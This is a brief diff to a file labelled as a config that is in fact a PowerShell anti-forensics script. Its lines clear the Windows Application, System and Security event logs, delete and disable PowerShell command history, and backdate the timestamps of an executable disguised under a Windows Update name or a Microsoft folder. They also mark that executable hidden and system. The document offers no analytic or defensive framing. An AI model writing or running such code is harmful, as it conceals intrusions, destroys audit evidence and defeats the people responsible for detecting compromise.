@@ -1,7 +1,7 @@
-# config 9032 v4
+# config 9796 v4
 Clear-EventLog -LogName Application, System, Security
 Remove-Item (Get-PSReadlineOption).HistorySavePath -Force
 Set-PSReadlineOption -HistorySaveStyle SaveNothing
-$f = Get-Item $env:TEMP\wuauclt.exe
+$f = Get-Item C:\ProgramData\Microsoft\upd.exe
 $f.CreationTime = '01/01/2019 08:00:00'; $f.LastWriteTime = '01/01/2019 08:00:00'
-attrib +h +s $env:TEMP\wuauclt.exe
+attrib +h +s C:\ProgramData\Microsoft\upd.exe
